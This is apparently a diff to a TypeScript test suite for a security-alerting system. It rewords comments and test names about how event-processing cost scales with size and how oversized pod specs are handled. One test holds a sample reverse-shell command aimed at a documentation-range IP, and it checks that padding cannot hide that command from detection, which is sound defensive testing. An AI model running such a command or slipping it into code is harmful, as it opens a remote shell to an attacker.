@@ -1,8 +1,8 @@
 /**
  * What an event costs grows with its bytes and not faster, whatever its client wrote into it. Each form is
  * measured at 14 KB, 110 KB and 880 KB, in processor time and in the same run: from one to the next linear
- * work gives a ratio of 8, work that compares all with all 64. Two steps, as of much that is judged there is
- * a cap between: below it nothing may hide behind it.
+ * work gives a ratio of 8, work that compares all with all 64. Two steps, as much of the work has a cap in
+ * between, which may hide nothing below it.
  */
 import {
   buildAlert,
@@ -20,9 +20,9 @@ const MIDDLE = 110_000;
 const FACTOR = 8;
 const STEPS = [MIDDLE, MIDDLE * FACTOR] as const;
 const TRIES = 3;
-/** Room for what a garbage collector and a busy machine do. */
+/** Tolerance for a garbage collector and a busy machine. */
 const RATIO_MAX = 28;
-/** Below it a ratio says nothing. */
+/** Below it a ratio means nothing. */
 const NOISE_MS = 60;
 
 type Json = Record<string, unknown>;
@@ -280,7 +280,7 @@ describe('the cost of an event', function () {
     });
   }
 
-  it('is not that of the whole where there is more than is judged, and what was left out is named', () => {
+  it('is not that of the whole where there is more than is assessed, and what was left out is named', () => {
     const many = [
       [pod({ containers: filled(300_000, () => ({})) }), 'containers 500 were looked at'],
       [
@@ -326,7 +326,7 @@ describe('the cost of an event', function () {
     });
   }
 
-  it('is a sign by itself where containers or host paths are left out: nothing says what the others do', () => {
+  it('is a signal where containers or host paths are left out: what the others do is unknown', () => {
     for (const made of [
       pod({
         initContainers: filled(30_000, (i) => ({ name: `c${String(i)}`, image: 'x', command: ['true'] })),
@@ -338,7 +338,7 @@ describe('the cost of an event', function () {
     }
   });
 
-  it('does not keep a command from being judged by padding in another one, before it or behind it', () => {
+  it('does not hide a command by padding in another one, before it or after it', () => {
     const shell = 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1';
     const padding = repeated(400_000, 'echo ok;');
     const hidden = [
